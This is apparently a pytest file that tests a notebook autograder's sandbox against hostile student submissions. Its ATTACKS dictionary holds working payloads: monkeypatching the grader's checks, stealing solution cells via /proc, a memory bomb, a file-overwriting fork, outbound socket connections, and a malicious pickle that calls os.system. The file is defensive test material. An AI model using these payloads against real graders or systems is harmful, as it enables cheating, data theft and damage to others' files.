"""Submissions that try to raise their own score, or to do harm, while graded.

Each hostile submission starts from the *unsolved* student version of
lab 01 (every solution still raises NotImplementedError) and adds one
attack in an extra cell. Each must be graded as failing with a reason a
teacher understands, the batch must go on, and no file outside the
grader's private work directory may change.
"""

import hashlib
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from gradlab.coursework import (grade, release_notebook, sandbox_available,
                                summary_table)
from gradlab.coursework.sandbox import _pids_roots

ROOT = Path(__file__).resolve().parents[1]
LAB01 = ROOT / "labs" / "lab01_causes.ipynb"
AVAILABLE, WHY = sandbox_available()
# `make test` installs bubblewrap; in CI a missing sandbox is a failure.
# The grading batch runs two notebooks at a time: it shares a worker with
# the book build, which does too (see test_book), so they never overlap.
pytestmark = [
    pytest.mark.xdist_group("two_processes"),
    pytest.mark.skipif(not AVAILABLE and not os.environ.get("CI"),
                       reason=f"no sandbox here: {WHY}")]

# The four ways an unsolved lab 01 got full marks from the in-kernel
# grader, then harm a submission may try.
ATTACKS = {
    "hide_tracebacks": "get_ipython().showtraceback = lambda *a, **k: None",
    "swallow_errors": """\
shell = get_ipython()
original = shell.run_cell
def run_cell(raw_cell, *args, **kwargs):
    return original("try:\\n" + "\\n".join(
        "    " + line for line in raw_cell.splitlines()) +
        "\\nexcept BaseException:\\n    pass", *args, **kwargs)
shell.run_cell = run_cell""",
    "patch_checks": """\
import importlib
import gradlab.checks
importlib.reload = lambda module: module
for name in dir(gradlab.checks):
    if name.startswith("check_"):
        setattr(gradlab.checks, name, lambda *a, **k: None)
        setattr(gradlab.checks.lab01, name, lambda *a, **k: None)
checks = gradlab.checks""",
    "steal_solutions": """\
import glob, json, os
paths = {p for top in ("/work", "/root", "/home", "/tmp", "/sandbox")
         for p in glob.glob(top + "/**/lab01_causes.ipynb", recursive=True)}
paths.add(%(lab)r)
for pid in os.listdir("/proc"):
    try:
        args = open(f"/proc/{pid}/cmdline").read().split("\\0")
    except OSError:
        continue
    paths.update(a for a in args if a.endswith(".ipynb"))
stolen = 0
for path in paths:
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for cell in cells:
        text = "".join(cell["source"])
        if "### BEGIN SOLUTION" in text:
            exec(text, globals())
            stolen += 1
print("stolen cells:", stolen)""",
    "memory_bomb": """\
import torch
hog = []
while True:  # 1 GiB more each time (reserved; touching it is slower)
    hog.append(torch.empty(2 ** 28))""",
    "background_fork": """\
import os, time
if os.fork() == 0:
    time.sleep(4)
    for path in ("submission.ipynb", %(lab)r, %(init)r):
        try:
            open(path, "w").write("overwritten by a background process")
        except OSError:
            pass
    os._exit(0)""",
    "network": """\
import socket
for address in (("127.0.0.1", %(port)d), ("1.1.1.1", 80)):
    try:
        socket.create_connection(address, timeout=3).sendall(b"leak")
        print("connected to", address)
    except OSError as exc:
        print("no connection to", address, exc)""",
    "write_home_and_labs": """\
import os
for path in (os.path.expanduser("~/gradlab_was_here"), %(lab_dir)r +
             "/gradlab_was_here", "/tmp/gradlab_was_here"):
    try:
        open(path, "w").write("x")
        print("wrote", path)
    except OSError as exc:
        print("could not write", path, exc)""",
    "forge_results": """\
import os, pickle, torch
os.makedirs(".grader/answers", exist_ok=True)
# answers that claim success, a pickle that would run code when loaded,
# and an nbval report with every cell passed
for i in range(2):
    torch.save([{"value": 8, "error": ""}] * 3, f".grader/answers/{i}.pt")
class Exploit:
    def __reduce__(self):
        return (os.system, ("touch %(pwned)s",))
pickle.dump([Exploit()], open(".grader/answers/1.pt", "wb"))
open(".grader/report.xml", "w").write(
    '<testsuite><testcase name="Cell 0"/></testsuite>')
os._exit(0)""",
}


def _digests(paths):
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in paths
            if p.is_file()}


class _Listener:
    """A TCP server on this machine's loopback that counts connections."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.connections = self.sock.getsockname()[1], 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    listener = _Listener()
    values = {"lab": str(LAB01), "lab_dir": str(LAB01.parent),
              "init": str(ROOT / "gradlab" / "__init__.py"),
              "port": listener.port, "pwned": str(tmp / "pwned")}
    student = release_notebook(nbformat.read(LAB01, as_version=4))
    paths = []
    for name, attack in ATTACKS.items():
        nb = nbformat.from_dict(student)
        # the attack runs right after the imports, before any check
        nb.cells.insert(2, nbformat.v4.new_code_cell(attack % values))
        path = tmp / f"{name}.ipynb"
        nbformat.write(nb, path)
        paths.append(path)
    watched = sorted(p for d in ("labs", "gradlab", "tests", "book")
                     for p in (ROOT / d).rglob("*") if p.is_file()
                     and "__pycache__" not in p.parts)
    watched += paths
    before = _digests(watched)
    home = Path.home() / "gradlab_was_here"
    start = time.perf_counter()
    grades = grade(LAB01, paths, tmp / "grades.csv", cell_timeout=30,
                   notebook_timeout=90, jobs=2, progress=False, seed=0)
    wall = time.perf_counter() - start
    time.sleep(6)  # longer than the background process waits
    listener.close()
    print(summary_table(grades))
    print(f"{len(paths)} hostile submissions graded in {wall:.1f} s")
    return {"grades": {Path(g.submission).stem: g for g in grades},
            "changed": [p for p, h in before.items()
                        if _digests([p]).get(p) != h],
            "listener": listener, "home_file": home.exists(),
            "pwned": (tmp / "pwned").exists(), "csv": tmp / "grades.csv"}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack_scores_nothing_and_the_reason_is_named(hostile, attack):
    g = hostile["grades"][attack]
    assert g.mode == "sandbox"
    assert g.score == 0, summary_table([g])
    assert all(r.result in ("fail", "not run") for r in g.results)
    assert all(r.message for r in g.results), g.results


def test_unsolved_functions_are_named_in_the_reason(hostile):
    for attack in ("hide_tracebacks", "swallow_errors", "patch_checks",
                   "steal_solutions", "network", "write_home_and_labs",
                   "background_fork"):
        for r in hostile["grades"][attack].results:
            assert "NotImplementedError" in r.message, (attack, r)


def test_forged_answers_are_judged_and_never_unpickled(hostile):
    results = hostile["grades"]["forge_results"].results
    assert results[0].result == "fail"
    assert "should return a list" in results[0].message  # 8, not norms
    assert results[1].result == "fail" and "unreadable" in results[1].message
    assert not hostile["pwned"]  # the pickle's os.system never ran


def test_memory_bomb_fails_and_the_batch_goes_on(hostile):
    g = hostile["grades"]["memory_bomb"]
    assert any(reason in g.status for reason in (
        "MemoryError", "can't allocate memory", "died")), g.status
    assert len(hostile["grades"]) == len(ATTACKS)


def test_nothing_outside_the_work_directory_changed(hostile):
    assert hostile["changed"] == []
    assert not hostile["home_file"]
    assert hostile["listener"].connections == 0
    # every process of the batch is gone: its cgroups could be removed
    leftover = [p for root in _pids_roots()
                for p in root.glob(f"gradlab-{os.getpid()}-*")]
    assert leftover == []


def test_the_csv_records_the_mode_and_feedback_is_written(hostile):
    text = hostile["csv"].read_text()
    assert text.splitlines()[0].endswith(",mode")
    assert text.count(",sandbox") == 2 * len(ATTACKS)
    feedback = hostile["csv"].with_name("grades_feedback")
    assert len(list(feedback.glob("*.txt"))) == len(ATTACKS)
    assert "NotImplementedError" in (feedback / "network.txt").read_text()


def test_sandbox_limits_processes_and_memory(tmp_path):
    from gradlab.coursework.sandbox import Limits, run_sandboxed
    fork = ("import os, time\n"
            "for i in range(100):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(5); os._exit(0)\n"
            "    except OSError as e:\n"
            "        print('fork', i, 'refused:', e); break\n")
    run = run_sandboxed(["python3", "-c", fork], tmp_path, timeout=60,
                        limits=Limits(processes=20))
    assert "refused" in run.output, run.output
    hog = ("b = bytearray(3 * 1024 ** 3)\nprint('allocated')")
    run = run_sandboxed(["python3", "-c", hog], tmp_path, timeout=60,
                        limits=Limits(memory_bytes=2 * 1024 ** 3))
    assert "MemoryError" in run.output and "allocated" not in run.output
    leftover = [p for root in _pids_roots()
                for p in root.glob(f"gradlab-{os.getpid()}-*")]
    assert leftover == []
